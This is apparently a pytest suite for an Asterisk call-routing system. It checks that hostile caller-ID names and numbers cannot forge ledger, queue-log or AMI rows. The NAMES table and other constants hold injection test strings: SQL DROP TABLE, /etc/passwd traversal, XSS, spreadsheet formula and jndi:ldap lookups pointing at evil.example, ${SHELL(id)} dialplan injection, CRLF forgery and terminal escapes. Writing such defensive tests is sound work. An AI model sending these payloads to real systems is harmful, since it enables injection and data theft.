"""Whatever a caller calls themselves, no ledger gets a row that Asterisk did not mean.

The identity is set inside Asterisk by a test context, which proves the same defence as one from outside.
"""

from __future__ import annotations

import base64
import itertools
import re
import unicodedata

import pytest

from api.calls.fold import fold
from ivr.kernel.clock import SystemClock
from routing.ledger import cel
from routing.ledger.rows import AcceptedRow, RejectedRow
from tests.asterisk.exchange import Exchange
from tests.asterisk.strangers import AmiVisitor

NAMES = {
    "persian": "محمد رضایی",
    "long": "ب" * 100,
    "quotes": '"Ali" \\"R\\" \\\\',
    "lines": 'Ali\r\nEvent: Forged\r\n"USER_DEFINED","1.000000","final"\n1|x|general|NONE|ABANDON|1|1|1',
    "bars": "a|b,c;d${SHELL(id)}&e",
    "door": "x\nagi_network_script: survey\n\n",
    "formula": '=1+1 @SUM(A1:A9) +cmd|"/c calc"!A1 \t=HYPERLINK("http://evil.example")',
    "page": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg/onload=alert(1)>",
    "unseen": "\u202egnp.exe\u202c\u200b\ufeff\u2066x\u2069\u061c",
    "database": "'; DROP TABLE call_record; --",
    "path": "../../../../etc/passwd\x00.wav",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> ${jndi:ldap://evil.example/a} ${CALLERID(num)} ${GLOBAL(TEST_KEYS)}",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b[31mred\x9b31m",
}
WAYS = ("direct", "dialled")
PLAIN = "Ali|Reza,\x07"
NUMBER = '0912\r\n"forged"|${EPOCH},\x1b=1+1<b>../\u202e'


def encoded(text: str) -> str:
    """As the console takes it in a command; a NUL would end the text inside Asterisk, so none is sent."""
    return base64.b64encode(text.replace("\0", "").encode()).decode()


@pytest.fixture(scope="module")
def calls(exchange: Exchange) -> dict[tuple[str, str], str]:
    """Every name by every way, all calls at once: kind and way → call. Fails when one does not end."""
    made: dict[tuple[str, str], str] = {}
    known = {row.call for row in exchange.rows()}
    for name, value in {"KEYS": "0", "WAIT": "0.5", "STAY": "0.5", "NUMBER": encoded(NUMBER)}.items():
        exchange.remote(f"dialplan set global TEST_{name} {value}")
    for kind, way in itertools.product(NAMES, WAYS):
        exchange.remote(f"dialplan set global TEST_NAME {encoded(NAMES[kind])}")
        exchange.remote(f"channel originate Local/{way}@test-caller extension s@test-keys")

        def arrived() -> set[str]:
            return {row.call for row in exchange.rows() if row.name == "offered"} - known

        exchange.until(lambda: bool(arrived()), f"the {kind} call did not arrive")
        (made[kind, way],) = arrived()
        known.add(made[kind, way])

    def ended() -> bool:
        return set(made.values()) <= {row.call for row in exchange.rows() if row.name == "LINKEDID_END"}

    exchange.until(ended, "not every call ended")
    return made


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("kind", NAMES)
def test_an_identity_forges_nothing(exchange: Exchange, calls: dict[tuple[str, str], str], kind: str, way: str) -> None:
    rows = [row for row in exchange.rows() if row.call == calls[kind, way]]
    assert [row.name for row in rows].count("offered") == 1
    assert [row.name for row in rows].count("final") == 1
    offered = next(row for row in rows if row.name == "offered")
    for field in ("cid_num", "cid_ani", "cid_rdnis", "cid_dnid"):
        assert re.fullmatch(r"[0-9+]*", offered.columns[field]), field
    assert not re.search(r"[\x00-\x1f,|]", offered.columns["cid_name"])
    if kind in ("persian", "long"):
        assert offered.columns["cid_name"] == NAMES[kind]


@pytest.mark.parametrize("number", ["", NUMBER], ids=["nobody's", "a number's"])
@pytest.mark.parametrize("text", ['):0,|"\r\nEvent: Forged', "):0,0", "${LEN(x)}|,", PLAIN])
def test_who_diverted_a_call_is_filtered_whatever_they_call_themselves(
    exchange: Exchange, text: str, number: str
) -> None:
    """Their names stand in no ledger, so the channel itself is asked; a name once told the filters that there was none."""
    known = {row.call for row in exchange.rows()}
    told = {
        "KEYS": "0",
        "WAIT": "1",
        "STAY": "60",
        "NAME": encoded("x"),
        "NUMBER": encoded(number),
        "DIVERTED": encoded(text),
    }
    for name, value in told.items():
        exchange.remote(f'dialplan set global TEST_{name} "{value}"')
    try:
        exchange.remote("channel originate Local/direct@test-caller extension s@test-keys")
        exchange.until(
            lambda: any(row.name == "offered" and row.call not in known for row in exchange.rows()), "no call"
        )
    finally:
        exchange.remote('dialplan set global TEST_DIVERTED ""')
    row = next(row for row in exchange.rows() if row.name == "offered" and row.call not in known)
    assert re.fullmatch(r"[0-9+]*", row.columns["cid_rdnis"])
    visitor = AmiVisitor("127.0.0.1", exchange.settings.ami_port)
    try:
        visitor.log_in("lead", "lead")
        for party, what in itertools.product(("from", "orig", "to"), ("num", "name")):
            variable = f"REDIRECTING({party}-{what})"
            found = visitor.ask("Getvar", Channel=row.columns["channame"], Variable=variable)
            assert found["Response"] == "Success", found
            assert not re.search(r"[\x00-\x1f,|]", found["Value"]), variable
            assert what == "name" or re.fullmatch(r"[0-9+]*", found["Value"]), variable
            if what == "name" and text == PLAIN:
                assert found["Value"] == "AliReza", "the text was there"
    finally:
        visitor.close()
        exchange.clear()


def test_no_ledger_has_a_row_of_another_call(exchange: Exchange, calls: dict[tuple[str, str], str]) -> None:
    """What a name brings along must not look like a row, neither of a call that never was nor of one that is."""
    assert {row.call.partition("-")[0] for row in exchange.rows()} == {"bench"}
    assert len({row.call for row in exchange.rows() if row.name == "offered"} & set(calls.values())) == len(calls)
    events = {"ENTERQUEUE", "JOINEMPTY", "ABANDON"}
    for line in exchange.queue_log():
        assert re.fullmatch(r"\d{10}", line[0])
        if line[1] in calls.values():
            assert (line[2], line[3], line[4] in events) == ("q-general", "NONE", True)
        else:
            assert line[1] == "NONE" or line[1].startswith("bench-")


def test_every_reader_makes_a_harmless_record_of_it(exchange: Exchange, calls: dict[tuple[str, str], str]) -> None:
    """From the ledger to what pages and programs are given: nothing that steers a page, a terminal or a database."""
    raw = (exchange.settings.asterisk / "log" / "cel-custom" / "line.csv").read_bytes()
    read = cel.scan(raw, 0, SystemClock().now())
    assert [row for row in read.rows if isinstance(row, RejectedRow)] == []
    events = [row.event for row in read.rows if isinstance(row, AcceptedRow)]
    for (kind, way), call in calls.items():
        record = fold([event for event in events if event.call_id == call])
        assert record is not None, (kind, way)
        assert re.fullmatch(r"[0-9+]*", record.caller)
        steering = [
            letter for letter in record.caller_name if unicodedata.category(letter) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
        ]
        assert set(steering) <= {"\u200c"}, (kind, way, steering)
        assert len(record.caller_name) <= 200


def test_no_door_says_the_name_or_the_number_to_its_log(exchange: Exchange, calls: dict[tuple[str, str], str]) -> None:
    logs = [path.read_bytes() for path in exchange.var.glob("doors-*.out")]
    assert logs
    for log in logs:
        assert b"\x1b" not in log
        assert all(line.startswith(b"{") for line in log.splitlines())
        for mark in (b"<script>", b"DROP TABLE", b"owned", b"=1+1", b"gnp.exe", b"7*7"):
            assert mark not in log
